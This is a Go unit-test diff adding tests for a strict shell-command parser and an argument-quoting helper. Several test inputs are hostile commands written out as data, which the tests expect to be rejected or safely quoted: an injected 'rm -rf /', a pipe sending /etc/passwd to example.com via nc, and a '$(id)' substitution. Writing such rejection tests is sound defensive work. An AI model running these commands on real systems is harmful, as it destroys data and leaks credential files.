@@ -12,3 +12,25 @@ func TestParseCMD(t *testing.T) {
 	assert.Nil(t, err, "failed to parse CMD (%v)", err)
 	assert.Equal(t, []string{"/bin/sh", "-c", "echo \"Hello world!\""}, args)
 }
+
+func TestParseCMDStrict(t *testing.T) {
+	args, err := unixutils.ParseCMDStrict("git-upload-pack 'repo.git'")
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"git-upload-pack", "repo.git"}, args)
+
+	_, err = unixutils.ParseCMDStrict("git-upload-pack 'repo.git'; rm -rf /")
+	assert.Error(t, err)
+	_, err = unixutils.ParseCMDStrict("cat /etc/passwd | nc example.com 80")
+	assert.Error(t, err)
+	_, err = unixutils.ParseCMDStrict("echo 'unterminated")
+	assert.Error(t, err)
+}
+
+func TestQuoteCMD(t *testing.T) {
+	argv := []string{"/bin/echo", "it's", "$(id)", "a b", "", "--flag=value"}
+	cmd := unixutils.QuoteCMD(argv)
+	assert.Equal(t, `/bin/echo 'it'\''s' '$(id)' 'a b' '' --flag=value`, cmd)
+	parsed, err := unixutils.ParseCMDStrict(cmd)
+	assert.Nil(t, err)
+	assert.Equal(t, argv, parsed)
+}